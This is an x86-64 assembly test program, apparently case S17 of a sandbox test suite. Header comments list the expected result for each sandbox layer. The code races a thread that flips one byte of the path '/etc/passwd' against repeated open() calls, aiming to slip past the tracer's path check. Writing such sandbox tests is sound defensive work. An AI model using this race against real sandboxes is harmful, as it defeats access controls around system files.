; S17 a second thread changes the path between the tracer's look and the kernel's
; 01: DENIED(clone)
; 10: DENIED(clone)
; 90: FAIL or TRACE
; 90 says: exit_group(7)
; layers: A N L
; seconds: 9

default rel
global _start

section .text
_start: mov     eax, 56                 ; clone
        mov     edi, 0x10f00            ; CLONE_VM|FS|FILES|SIGHAND|THREAD
        lea     rsi, [stack_end]
        xor     edx, edx
        xor     r10d, r10d
        xor     r8d, r8d
        syscall
        test    rax, rax
        jnz     .opens
.flip:  xor     byte [path+5], 'p'^'q'  ; /etc/passwd and another name
        inc     qword [turns]
        jmp     .flip
.opens: mov     ebx, 300
.again: mov     eax, 2                  ; open
        lea     rdi, [path]
        xor     esi, esi
        syscall
        test    rax, rax
        jns     .through
        dec     ebx
        jnz     .again
        mov     edi, 7                  ; kept in, all the time
        jmp     .leave
.through:
        mov     edi, 1
.leave: mov     eax, 231                ; exit_group
        syscall

section .data
path:   db      "/etc/passwd", 0
turns:  dq      0

section .bss
        resb    4096
stack_end:
